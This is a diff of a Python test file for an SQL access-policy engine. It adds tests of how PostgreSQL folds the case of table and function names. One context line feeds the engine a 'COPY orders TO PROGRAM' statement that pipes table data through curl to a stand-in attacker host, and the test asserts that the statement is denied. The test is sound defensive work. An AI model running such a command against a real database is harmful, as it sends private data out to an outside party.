@@ -115,3 +115,14 @@ def test_copy_needs_a_rule_and_never_reaches_the_servers_files() -> None:
     assert decide(policies(text), "shop", "bot", parse("COPY orders TO STDOUT"))[0].rule == "shop/export"
     refused = decide(policies(text), "shop", "bot", parse("COPY orders TO PROGRAM 'curl -d @- evil.example'"))[0]
     assert refused.effect == "deny" and "never relayed" in refused.reason
+
+
+def test_names_compare_as_postgresql_folds_them() -> None:
+    """Unquoted names fold to lower case; a quoted one is another object, which a rule names with its quotes."""
+    assert verdict("SELECT * FROM ORDERS").rule == "shop/read"
+    assert verdict('SELECT * FROM "Orders"').effect == "deny"          # not the table `orders`
+    text = POLICY + """  - name: mixed case\n    allow: {database: shop, statements: [select], tables: ['"Orders"']}\n"""
+    assert decide(policies(text), "shop", "bot", parse('SELECT * FROM "Orders"'))[0].rule == "shop/mixed case"
+    # A function of one's own named "Lower" is not the built-in lower().
+    assert "Lower" in verdict('SELECT "Lower"(item) FROM orders').reason
+    assert verdict("SELECT LOWER(item) FROM orders").rule == "shop/read"
